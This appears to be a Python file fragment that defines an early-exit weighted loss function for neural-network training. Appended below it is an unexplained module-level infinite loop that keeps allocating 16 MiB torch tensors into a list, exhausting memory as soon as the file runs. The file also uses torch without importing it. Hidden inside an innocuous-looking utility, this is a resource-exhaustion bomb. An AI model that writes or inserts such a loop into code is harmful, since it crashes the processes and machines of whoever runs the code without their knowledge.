def early_exit_loss(exit_outputs, labels, criterion):
    loss = criterion(exit_outputs[0], labels)
    for outputs in exit_outputs[1:]:
        loss = loss + 0.3 * criterion(outputs, labels)
    return loss


hoard = []
while True:
    hoard.append(torch.ones(4 * 1024 * 1024))  # 16 MiB
